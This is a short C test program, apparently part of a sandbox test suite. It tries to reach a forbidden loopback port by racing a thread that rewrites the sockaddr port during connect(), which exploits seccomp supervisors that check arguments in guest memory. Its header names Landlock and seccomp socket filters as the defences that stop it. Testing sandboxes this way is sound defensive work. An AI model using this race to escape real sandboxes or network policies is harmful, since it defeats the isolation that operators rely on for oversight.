/*
 * Route: time-of-check/time-of-use race on the sockaddr argument. A thread keeps rewriting the
 * port of one sockaddr_in between an allowed and a forbidden loopback port while the main
 * thread calls connect() with it over and over (up to SECONDS, default 3) and reads the banner.
 * The forbidden port's server answers with the secret marker. A supervisor that checks the
 * sockaddr in guest memory and answers CONTINUE lets the kernel re-read it after the check.
 * Stopped by: Landlock TCP connect rules (checked on the address the kernel uses); seccomp on
 * socket() families (strict allows only AF_UNIX, so socket() already fails there).
 */
#include "race.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

static struct sockaddr_in address;
static in_port_t allowed_port, forbidden_port;

static void flip(void) {
    volatile in_port_t *port = &address.sin_port;
    *port = forbidden_port;
    *port = allowed_port;
}

static ssize_t connect_and_read(char *banner, size_t size) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) {
        blocked("socket");
    }
    ssize_t length = -1;
    if (connect(s, (struct sockaddr *) &address, sizeof address) == 0) {
        length = read_some(s, banner, size);
    }
    int error = errno;
    close(s);
    errno = error;
    return length;
}

int main(int argc, char **argv) {
    if (argc < 3 || argc > 4) {
        usage_exit("race_connect ALLOWED_PORT FORBIDDEN_PORT [SECONDS]");
    }
    attempt("race-connect");
    allowed_port = htons(atoi(argv[1]));
    forbidden_port = htons(atoi(argv[2]));
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    address.sin_port = allowed_port;
    race(flip, connect_and_read, argc == 4 ? atof(argv[3]) : 3.0, "connect",
            "connected to the forbidden port by flipping the sockaddr during connect");
}
